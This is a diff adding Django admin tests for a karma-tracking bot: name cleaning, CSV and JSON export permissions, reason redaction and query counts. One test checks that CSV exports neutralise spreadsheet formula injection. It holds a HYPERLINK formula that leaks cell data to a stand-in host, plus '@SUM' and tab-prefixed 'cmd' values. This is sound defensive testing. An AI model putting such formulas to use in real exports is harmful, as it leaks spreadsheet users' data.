@@ -1,5 +1,7 @@
 """The admin through Django's test client: login, search, filter, sort, edits that reach the ledger."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -69,6 +71,21 @@ def test_adding_and_deleting_karma_is_recorded(admin_client, admin_user):
         ("new", 4, 4, "admin"),
         ("new", -4, 0, "admin"),
     ]
+
+
+def test_names_typed_in_the_admin_are_cleaned_as_chat_cleans_them(admin_client, karma_rows):
+    # A name is one line (karma/names.py): a line break in the admin cannot make a subject whose
+    # public page breaks.
+    add = reverse("admin:karma_karma_add")
+    assert admin_client.post(add, {"guild_id": "5", "subject": "new\r\nline", "karma": "4"}).status_code == 302
+    assert Karma.objects.get(guild_id=5).subject == "new line"
+    refused = admin_client.post(add, {"guild_id": "5", "subject": "\u200b\n", "karma": "4"})
+    assert "not a name karma could count" in refused.content.decode()
+    tea = Karma.objects.get(guild_id=1, subject="tea").pk
+    karma = reverse("admin:karma_karma_changelist")
+    admin_client.post(karma, {"action": "merge", "_selected_action": [tea], "apply": "Merge", "target": "hot\ntea"})
+    assert Karma.objects.get(pk=tea).merged_into == "hot tea"
+    assert Karma.objects.filter(guild_id=1, subject="hot tea", karma=1).exists()
 
 
 def test_ledger_is_read_only_and_filterable(admin_client, karma_rows):
@@ -199,3 +216,78 @@ def test_only_those_who_may_change_karma_may_revert_or_forget(client, django_use
     rows = list(LedgerEntry.objects.values_list("pk", flat=True))
     client.post(ledger, {"action": "revert", "_selected_action": rows})
     assert not LedgerEntry.objects.filter(source="revert").exists()
+
+
+def test_csv_exports_cannot_hold_spreadsheet_formulas(admin_client):
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    store.apply_changes(chat("", guild_id=1, author_name="@SUM(A1:A9)"), [(formula, -2), ("+1", 1), ("-x", 1)])
+    store.apply_changes(chat("", guild_id=1, author_name="\tcmd"), [("plain", 1)])
+    GuildSettings.objects.create(guild_id=1)
+    servers = reverse("admin:karma_guildsettings_changelist")
+
+    def cells(action):
+        exported = admin_client.post(servers, {"action": action, "_selected_action": [1]})
+        return list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
+
+    karma = {row["subject"]: row["karma"] for row in cells("export_karma_csv")}
+    # A cell a spreadsheet would read as a formula starts with ' (shown, not run); numbers stay numbers.
+    assert karma == {"'" + formula: "-2", "'+1": "1", "'-x": "1", "plain": "1"}
+    ledger = cells("export_ledger_csv")
+    assert {row["author_name"] for row in ledger} == {"'@SUM(A1:A9)", "'\tcmd"}
+    assert [row["delta"] for row in ledger if row["subject"] == "'" + formula] == ["-2"]
+
+
+def test_exports_need_the_view_permissions_of_what_they_export(client, django_user_model, karma_rows):
+    from django.contrib.auth.models import Permission
+
+    store.apply_changes(chat("", guild_id=1, author_id=666, author_name="private-person"), [("x", 1)])
+    GuildSettings.objects.create(guild_id=1)
+    staff = django_user_model.objects.create_user("settings-viewer", password="x", is_staff=True)
+    staff.user_permissions.add(Permission.objects.get(codename="view_guildsettings"))
+    client.force_login(staff)
+    servers = reverse("admin:karma_guildsettings_changelist")
+
+    def exported(action):
+        response = client.post(servers, {"action": action, "_selected_action": [1]})
+        return b"".join(response.streaming_content).decode() if response.streaming else None
+
+    def granted(codename):
+        staff.user_permissions.add(Permission.objects.get(codename=codename))
+
+    assert client.get(reverse("admin:karma_ledgerentry_changelist")).status_code == 403
+    actions = ("export_karma_csv", "export_ledger_csv", "export_json")
+    assert [exported(action) for action in actions] == [None, None, None]
+    granted("view_karma")
+    assert "popple" in exported("export_karma_csv")
+    assert [exported("export_ledger_csv"), exported("export_json")] == [None, None]
+    granted("view_ledgerentry")
+    assert "private-person" in exported("export_ledger_csv")
+    assert "private-person" in exported("export_json")
+
+
+def test_a_moderator_redacts_a_reason_from_the_admin(admin_client, client, django_user_model, karma_rows):
+    from django.contrib.auth.models import Permission
+
+    store.apply_changes(chat("", guild_id=1), [("tea", 1)], {"tea": "my phone number is 555-0100"})
+    row = LedgerEntry.objects.get(reason__startswith="my phone")
+    ledger = reverse("admin:karma_ledgerentry_changelist")
+    viewer = django_user_model.objects.create_user("viewer", password="x", is_staff=True)
+    viewer.user_permissions.add(Permission.objects.get(codename="view_ledgerentry"))
+    client.force_login(viewer)
+    client.post(ledger, {"action": "redact_reasons", "_selected_action": [row.pk]})
+    assert LedgerEntry.objects.get(pk=row.pk).reason.startswith("my phone")  # viewing is not moderating
+    response = admin_client.post(ledger, {"action": "redact_reasons", "_selected_action": [row.pk]}, follow=True)
+    assert "Redacted the reasons of 1 ledger rows" in response.content.decode()
+    assert LedgerEntry.objects.get(pk=row.pk).reason == ""
+
+
+def test_the_server_filter_does_not_scan_karma_on_every_page(admin_client, karma_rows):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    url = reverse("admin:karma_ledgerentry_changelist")
+    admin_client.get(url)
+    with CaptureQueriesContext(connection) as queries:
+        page = admin_client.get(url, {"guild_id": "1"}).content.decode()
+    assert '<a href="?guild_id=2">2</a>' in page  # listed, from the cache
+    assert not [sql for sql in (query["sql"] for query in queries) if "DISTINCT" in sql and "karma_karma" in sql]
